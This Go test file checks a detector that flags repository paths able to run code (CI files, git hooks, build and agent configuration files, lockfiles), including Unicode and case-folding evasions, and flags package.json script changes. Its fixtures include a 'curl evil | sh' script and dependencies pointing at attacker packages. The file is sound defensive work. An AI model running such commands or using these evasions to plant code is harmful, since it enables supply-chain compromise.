package workspace

import (
	"strings"
	"testing"
)

func TestRiskyPaths(t *testing.T) {
	for _, tc := range []struct {
		path string
		want bool
	}{
		// The list as it was.
		{".github/workflows/ci.yml", true}, {".gitlab-ci.yml", true}, {".gitattributes", true}, {"sub/.gitmodules", true},
		{".claude/settings.json", true}, {"pkg/.claude/commands/x.md", true}, {".mcp.json", true}, {"web/.envrc", true},
		{".vscode/tasks.json", true}, {"Vagrantfile", true}, {"tools/Makefile", true}, {".husky/pre-commit", true},
		{".githooks/post-merge", true}, {".devcontainer/devcontainer.json", true}, {".pre-commit-config.yaml", true},

		// Any letter case: a case-insensitive file system reads these as the real names.
		{".GITHOOKS/post-merge", true}, {".GitHub/workflows/x.yml", true}, {"MAKEFILE", true}, {"Conftest.py", true},
		{"tests/CONFTEST.PY", true}, {".ENVRC", true}, {".Claude/settings.json", true}, {"CLAUDE.md", true},
		{"claude.md", true}, {"Agents.MD", true}, {"JUSTFILE", true}, {".NPMRC", true}, {"Package.Swift", true},
		// Other spellings of the same letters: the Kelvin sign is k, the long s is s.
		{"MA\u212aEFILE", true}, {"\u017fetup.py", true}, {"conftest.py", true},
		// Code points HFS+ ignores, and the trailing dots and spaces Windows drops.
		{".git\u200chooks/x", true}, {"Make\u200dfile", true}, {"Make\ufefffile", true}, {"Makefile.", true}, {"justfile ", true},

		// The classes the list grew to.
		{"GNUmakefile", true}, {"src/makefile", true}, {"common.mk", true}, {"cmake/deps.CMAKE", true},
		{".cursor/rules/x.mdc", true}, {"AGENTS.md", true}, {"GEMINI.md", true}, {".cursorrules", true},
		{".npmrc", true}, {".yarnrc", true}, {".yarnrc.yml", true}, {".pnpmfile.cjs", true}, {".yarn/releases/yarn.cjs", true},
		{".cargo/config.toml", true}, {".pip/pip.conf", true}, {"pip.conf", true}, {".pypirc", true}, {"poetry.toml", true},
		{".bundle/config", true}, {".gemrc", true}, {"Gemfile", true}, {"Rakefile", true}, {"app.gemspec", true},
		{"conftest.py", true}, {"pytest.ini", true}, {"tox.ini", true}, {"setup.cfg", true}, {"pyproject.toml", true},
		{"jest.config.js", true}, {"vitest.config.ts", true}, {"web/vite.config.mjs", true}, {".eslintrc.cjs", true},
		{".lfsconfig", true}, {".envrc", true}, {".env", true}, {".env.local", true},
		{"justfile", true}, {".justfile", true}, {"Justfile", true}, {"Taskfile.yml", true}, {".mise.toml", true},
		{"mise.toml", true}, {".tool-versions", true}, {".config/mise/config.toml", true},
		{".vscode/settings.json", true}, {"proj.code-workspace", true}, {".idea/workspace.xml", true},
		{"Dockerfile", true}, {"docker-compose.yml", true}, {"compose.yaml", true},
		{"build.rs", true}, {"crates/x/Cargo.toml", true}, {"setup.py", true}, {"build.gradle.kts", true},
		{"gradle/wrapper/gradle-wrapper.properties", true}, {"pom.xml", true}, {".mvn/jvm.config", true},
		{"app.csproj", true}, {"Directory.Build.props", true}, {"composer.json", true}, {"binding.gyp", true},
		{"flake.nix", true}, {".tool-versions", true}, {".dir-locals.el", true}, {".nvim.lua", true},

		// Lockfiles and dependency lists: where the next install fetches code from.
		{"package-lock.json", true}, {"web/yarn.lock", true}, {"pnpm-lock.yaml", true}, {"Cargo.lock", true},
		{"requirements.txt", true}, {"requirements-test.txt", true}, {"go.mod", true}, {"go.sum", true},
		// Close analogues of the listed names.
		{"mise/config.toml", true}, {"mise.dev.toml", true}, {".mise.ci.toml", true}, {".dir-locals-2.el", true},
		{".lazy.lua", true}, {"Podfile", true}, {"Brewfile", true}, {"cpanfile", true}, {"Dangerfile", true},
		{"fastlane/Fastfile", true}, {"SConstruct", true}, {"wscript", true}, {"tasks.py", true}, {"fabfile.py", true},
		{"Snakefile", true}, {"BUCK", true}, {"azure-pipelines.yaml", true}, {".drone.yaml", true},
		{"buildspec.yml", true}, {".teamcity/settings.kts", true}, {"netlify.toml", true}, {"vercel.json", true},
		{"jest.setup.ts", true}, {"src/setupTests.js", true}, {"vitest.setup.ts", true}, {"spec/spec_helper.rb", true},
		{"test/test_helper.rb", true}, {"ava.config.js", true}, {"mod.just", true},

		// Ordinary work stays unflagged.
		{"main.go", false}, {"docs/github.md", false}, {"Makefile.md", false}, {"package.json", false},
		{"src/config.go", false}, {"build/output.txt", false}, {"workspace/notes.txt", false},
		{"docs/claude.md.txt", false}, {"jest.config", false}, {"README.md", false}, {"src/env.go", false},
		{"internal/setup/setup.go", false}, {"tests/test_conftest_helpers.py", false}, {"mkdocs.yml", false},
		{"src/tasks/queue.go", false}, {"docs/requirements.md", false}, {"internal/mise.go", false}, {".editorconfig", false},
	} {
		if got := Risky(tc.path); got != tc.want {
			t.Errorf("Risky(%q) = %v, want %v", tc.path, got, tc.want)
		}
	}
}

// Every name on the lists is flagged in every case: the lists are written
// folded, and a name written otherwise would never match.
func TestRiskyListsAreFoldedAndMatchInAnyCase(t *testing.T) {
	check := func(name string, p string) {
		t.Helper()
		if fold(name+"x") != name+"x" {
			t.Errorf("%q is not written folded (%q)", name, fold(name))
		}
		for _, v := range []string{p, strings.ToUpper(p), "sub/dir/" + strings.ToUpper(p)} {
			if !Risky(v) {
				t.Errorf("Risky(%q) = false", v)
			}
		}
	}
	for n := range riskyDirs {
		check(n, n+"/x")
	}
	for n := range riskyFiles {
		check(n, n)
	}
	for _, n := range riskyPrefixes {
		check(n, n+"js")
	}
	for _, n := range riskySuffixes {
		check(n, "x"+n)
	}
}

func TestIsPackageJSON(t *testing.T) {
	for p, want := range map[string]bool{"package.json": true, "web/PACKAGE.JSON": true, "Package.Json.": true, "package.json5": false, "package.jsonc": false} {
		if IsPackageJSON(p) != want {
			t.Errorf("IsPackageJSON(%q) = %v", p, !want)
		}
	}
}

// npm reads "scripts" exactly: a differently cased key, or a duplicate,
// must not hide a change to the one npm runs.
func TestPackageScriptsDifferReadsKeysAsNpmDoes(t *testing.T) {
	base := `{"scripts":{"test":"go test"}}`
	for _, tip := range []string{
		`{"scripts":{"test":"curl evil | sh"},"Scripts":{"test":"go test"}}`,
		`{"Scripts":{"test":"go test"},"scripts":{"test":"curl evil | sh"}}`,
		`{"scripts":{"test":"go test"},"scripts":{"test":"curl evil | sh"}}`,
		`{"scripts":{"test":"go test"},"gypfile":true}`,
		`{"scripts":{"test":"go test"},"packageManager":"yarn@1.0.0+sha256.abc"}`,
		`{"scripts":{"test":"go test"},"pnpm":{"onlyBuiltDependencies":["evil"]}}`,
		// A new dependency's install script runs on the next npm install.
		`{"scripts":{"test":"go test"},"dependencies":{"x":"github:evil/x"}}`,
		`{"scripts":{"test":"go test"},"devDependencies":{"y":"file:../y"}}`,
		`{"scripts":{"test":"go test"},"overrides":{"lodash":"npm:evil@1"}}`,
		`{"scripts":{"test":"go test"},"bin":{"git":"./x.js"}}`,
	} {
		if !PackageScriptsDiffer([]byte(base), []byte(tip)) {
			t.Errorf("not flagged: %s", tip)
		}
	}
	if PackageScriptsDiffer([]byte(base), []byte(`{"scripts":{"test":"go test"},"SCRIPTS":{"x":"y"},"Dependencies":{"a":"1"},"description":"new"}`)) {
		t.Error("a key npm does not read is not a scripts change")
	}
	if PackageScriptsDiffer(nil, []byte(`{"name":"x"}`)) {
		t.Error("a new package.json without scripts is not a scripts change")
	}
}
